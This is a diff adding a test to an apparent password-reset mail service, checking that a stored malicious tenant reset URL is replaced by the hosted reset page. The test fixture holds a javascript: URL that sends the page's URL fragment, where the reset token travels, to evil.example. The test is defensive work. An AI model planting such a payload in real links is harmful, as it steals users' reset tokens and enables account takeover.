@@ -583,3 +583,24 @@ describe('tenant URLs in mail (resetUrl, brand.logoUrl)', () => {
     expect(mail.text).toContain('http://[::1]:5173/reset#token=');
   });
 });
+
+describe('a tenant URL stored before the rule', () => {
+  /** @see issue 9 (low): the rule is kept when a link is mailed, not only when the tenant is provisioned. */
+  it('a javascript: resetUrl already in the store is never put in a mail; the hosted page is used', async () => {
+    t = await createTestApp();
+    await t.store.putTenant({
+      id: TENANT,
+      name: 'Cove Gym',
+      locale: 'en',
+      resetUrl: 'javascript:fetch("https://evil.example/?"+location.hash)',
+      createdAt: 0,
+      updatedAt: 0,
+    });
+    const member = await t.seedClient({ email: 'ivy@example.com', password: OLD_PASSWORD });
+    expect(member.tenants).toEqual([TENANT]);
+    await t.post('/api/forgot', { identifier: 'ivy@example.com' });
+    const [mail] = await mailsOfKind(t, 'ivy@example.com', 'reset');
+    expect(mail.text).not.toContain('javascript:');
+    expect(mail.text).toContain('https://portal.example.test/reset?tenant=');
+  });
+});
